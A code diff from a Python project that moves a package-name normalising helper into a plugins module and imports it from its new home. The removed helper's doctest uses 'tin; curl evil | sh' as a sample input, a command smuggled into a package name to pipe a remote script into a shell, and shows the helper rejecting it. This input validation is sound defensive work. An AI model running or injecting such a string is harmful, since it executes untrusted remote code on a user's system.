@@ -17,12 +17,12 @@ from typing import Annotated, Any
 
 import tomlkit
 from packaging.licenses import InvalidLicenseExpression, canonicalize_license_expression
-from packaging.utils import InvalidName, canonicalize_name
 from pydantic import AfterValidator, BaseModel, ConfigDict, Field, ValidationError
 from tomlkit.exceptions import TOMLKitError
 
 from cleatwright.base.errors import DocumentError, MeasureError
 from cleatwright.base.keys import read_mark
+from cleatwright.base.plugins import package_name
 from cleatwright.base.visible import is_plain, visible
 from cleatwright.workshop.fields import Slug
 from cleatwright.workshop.reading import read_limited
@@ -50,20 +50,6 @@ def _line(text: str) -> str:
     if not is_line(text):
         raise ValueError("it has signs that cannot be seen")
     return text
-
-
-def package_name(text: str) -> str:
-    """Return the normal form of the name of a package, or "" for a text that is none.
-
-    Source: PEP 508, names, and PEP 503, normalized names, as the library ``packaging`` has them.
-
-    >>> package_name("Tin_Shelf"), package_name("tin; curl evil | sh")
-    ('tin-shelf', '')
-    """
-    try:
-        return str(canonicalize_name(text, validate=True))
-    except InvalidName:
-        return ""
 
 
 def _package(text: str) -> str:
